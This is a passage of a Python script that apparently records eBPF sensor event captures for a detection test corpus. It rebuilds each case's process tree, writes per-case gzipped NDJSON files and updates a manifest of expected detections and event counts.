    """Each case's root entity id and its process tree (the root and its descendants)."""
    roots: dict[str, str] = {}
    parent_of: dict[str, str] = {}
    for event in events:
        process = event["process"]
        assert isinstance(process, dict)
        parent = process.get("parent")
        if isinstance(parent, dict) and parent.get("entity_id"):
            parent_of.setdefault(process["entity_id"], parent["entity_id"])
        args = process.get("args") or []
        if event["event"]["action"] == "exec" and args and str(args[-1]).startswith(MARK):  # type: ignore[index]
            name = str(args[-1]).removeprefix(MARK)
            if name in names:
                roots.setdefault(name, process["entity_id"])
    trees: dict[str, tuple[str, set[str]]] = {}
    for name, root in roots.items():
        tree = {root}
        grown = True
        while grown:
            grown = False
            for child, parent in parent_of.items():
                if parent in tree and child not in tree:
                    tree.add(child)
                    grown = True
        trees[name] = (root, tree)
    return trees


def _split(raw: Path, names: list[str]) -> dict[str, int]:
    lines = raw.read_bytes().splitlines()
    events = [json.loads(line) for line in lines]
    trees = _trees(events, names)
    missing = sorted(set(names) - set(trees))
    if missing:
        raise SystemExit(f"no root found for {missing}")
    case_of = {entity: name for name, (_, tree) in trees.items() for entity in tree}
    roots = {root for root, _ in trees.values()}
    kept: dict[str, list[int]] = {name: [] for name in trees}
    gaps: list[int] = []
    for index, event in enumerate(events):
        entity = event["process"]["entity_id"]
        action = event["event"]["action"]
        if action == "gap":
            gaps.append(index)
        elif entity in case_of and not (entity in roots and action == "fork"):
            # the root's own fork is left out: that process was still this script then
            kept[case_of[entity]].append(index)
    CASES_DIR.mkdir(exist_ok=True)
    counts: dict[str, int] = {}
    for name, members in kept.items():
        first, last = events[members[0]]["@timestamp"], events[members[-1]]["@timestamp"]
        lost = [i for i in gaps if first <= events[i]["@timestamp"] <= last]
        body = b"\n".join(lines[i] for i in sorted(members + lost)) + b"\n"
        with gzip.GzipFile(CASES_DIR / f"{name}.ndjson.gz", "wb", mtime=0) as handle:
            handle.write(body)
        counts[name] = len(members) + len(lost)
    return counts


def _write_manifest(counts: dict[str, int]) -> None:
    manifest = json.loads(MANIFEST.read_text()) if MANIFEST.exists() else {"cases": {}}
    recorded = time.strftime("%Y-%m-%d")
    for case in (*CASES, Case(BENIGN, "sh benign.sh", ())):
        if case.name not in counts:
            continue
        manifest["cases"][case.name] = {
            "file": f"cases/{case.name}.ndjson.gz",
            "expect": sorted(case.expect),
            "script": case.script,
            "events": counts[case.name],
            "recorded": recorded,
        }
    manifest["format_version"] = 1
    manifest["recorded_on"] = f"Debian 12, kernel {platform.release()}, eBPF sensor (bpftrace)"
    manifest["cases"] = dict(sorted(manifest["cases"].items()))
    MANIFEST.write_text(json.dumps(manifest, indent=1) + "\n")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", nargs="*", help="case names (benign included)")
    parser.add_argument("--keep", type=Path, help="also keep the whole raw capture here")
    options = parser.parse_args()
    if os.geteuid() != 0:
        raise SystemExit("run as root")
    known = [case.name for case in CASES] + [BENIGN]
    names = options.only or known
    unknown = sorted(set(names) - set(known))
    if unknown:
        raise SystemExit(f"unknown cases {unknown}")
    shutil.rmtree(WORK_ROOT, ignore_errors=True)
    (WORK_ROOT / "home").mkdir(parents=True)
    raw = options.keep or WORK_ROOT / "all.ndjson"
    _with_user()
    try:
        _record(names, raw)
    finally:
        _without_user()
    counts = _split(raw, names)
    _write_manifest(counts)
    print(json.dumps(counts, indent=1))


if __name__ == "__main__":
    main()
